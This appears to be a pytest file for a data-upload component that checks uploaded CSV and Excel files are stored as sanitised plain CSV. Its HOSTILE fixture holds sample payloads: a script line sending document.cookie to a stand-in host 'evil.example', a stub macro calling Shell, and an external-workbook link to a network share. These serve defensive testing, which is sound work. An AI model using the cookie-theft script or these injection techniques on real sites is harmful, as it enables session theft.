"""An upload is stored as what passed the check, never byte for byte: hidden payloads stay out."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pandas as pd
import pytest

from components import uploads
from components.catalogue import INDICATOR_COLUMNS, read_catalogue
from components.observations import read_observations
from tests.conftest import DATA
from tests.fixtures.cases import GOOD, GOOD_FILES, mini_data_dir

INDICATORS, _ = read_catalogue(DATA / "catalogue" / "indicators.csv", INDICATOR_COLUMNS)
ROWS = [["indicator", "country", "year", "value"],
        ["net_migration", "Crna Gora", 2019, 1234576], ["net_migration", "ALB", 2020, -98765.5]]


def _workbook(extra_parts: dict[str, bytes] | None = None) -> bytes:
    book = openpyxl.Workbook()
    for row in ROWS:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    if not extra_parts:
        return out.getvalue()
    # Parts Excel writes for macros and links to other workbooks, added to a plain workbook.
    result = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as source, zipfile.ZipFile(result, "w") as target:
        for part in source.infolist():
            target.writestr(part, source.read(part))
        for name, data in extra_parts.items():
            target.writestr(name, data)
    return result.getvalue()


HOSTILE = {
    "script line in a CSV": ("figures.csv", (
        b"indicator,country,year,value\n<script>fetch('https://evil.example/'+document.cookie)</script>\n"
        b"net_migration,MNE,2019,1234576\nnet_migration,ALB,2020,-98765.5\n"), b"<script"),
    "macro workbook saved as .xlsx": ("figures.xlsx", _workbook(
        {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 Attribute VB_Name = \"Module1\" Shell(\"calc\")"}),
        b"VB_Name"),
    "workbook linking to another file": ("figures.xlsx", _workbook(
        {"xl/externalLinks/externalLink1.xml": b'<externalLink><externalBook r:id="rId1"/></externalLink>',
         "xl/externalLinks/_rels/externalLink1.xml.rels":
             b'<Relationships><Relationship Target="file:///\\\\\\\\evil\\\\share\\\\x.xlsx"/></Relationships>'}),
        b"evil"),
}


def _in_a_part(workbook: bytes, payload: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return any(payload in archive.read(name) for name in archive.namelist())


def _rows(raw: bytes, name: str) -> pd.DataFrame:
    rows, _, report = read_observations(raw, name, INDICATORS)
    assert not report.rejected
    return rows.sort_values(["country", "year"]).reset_index(drop=True)


@pytest.mark.parametrize("case", HOSTILE, ids=list(HOSTILE))
def test_a_hidden_payload_is_not_stored(tmp_path, case):
    name, content, payload = HOSTILE[case]
    assert payload in content or _in_a_part(content, payload)  # the upload does carry it
    check = uploads.check_upload(content, name, INDICATORS)
    assert check.accepted, check.report.problems
    data = mini_data_dir(tmp_path)
    stored = uploads.store(data, check)
    written = stored.read_bytes()
    assert stored.suffix == ".csv" and written != content
    assert not written.startswith(b"PK") and payload not in written and b"<" not in written
    written.decode("utf-8")  # plain UTF-8 text
    assert _rows(written, stored.name)[["country", "year", "value"]].values.tolist() == [
        ["ALB", 2020, -98765.5], ["MNE", 2019, 1234576.0]]


@pytest.mark.parametrize("case", GOOD, ids=lambda case: case.file)
def test_every_good_file_reads_back_the_same_from_what_is_stored(tmp_path, case):
    content = (GOOD_FILES / case.file).read_bytes()
    check = uploads.check_upload(content, case.file, INDICATORS)
    assert check.accepted
    again = _rows(check.stored, "stored.csv")
    pd.testing.assert_frame_equal(_rows(content, case.file), again)


def test_a_stored_upload_writes_each_figure_as_typed_with_a_decimal_point():
    """52,3 from a Serbian Excel is stored as 52.3 (not 52.299999999999997) and 1.250.451 as 1250451."""
    content = ("indicator;country;year;value\nemigrants_female_share;Srbija;2024;52,3\n"
               "emigrant_stock;Srbija;2024;1.250.451\nremittances_usd;Srbija;2023;5.100.000.000\n").encode()
    check = uploads.check_upload(content, "podaci.csv", INDICATORS)
    assert check.accepted
    values = [line.split(",")[11] for line in check.stored.decode().splitlines()[1:]]
    assert values == ["52.3", "1250451", "5100000000"]
    pd.testing.assert_frame_equal(_rows(content, "podaci.csv"), _rows(check.stored, "stored.csv"))


def test_an_upload_that_failed_the_check_cannot_be_stored(tmp_path):
    check = uploads.check_upload(b"indicator,country,year,value\nnet_migration,Atlantis,2020,5\n", "x.csv", INDICATORS)
    assert not check.accepted
    with pytest.raises(ValueError):
        uploads.store(mini_data_dir(tmp_path), check)
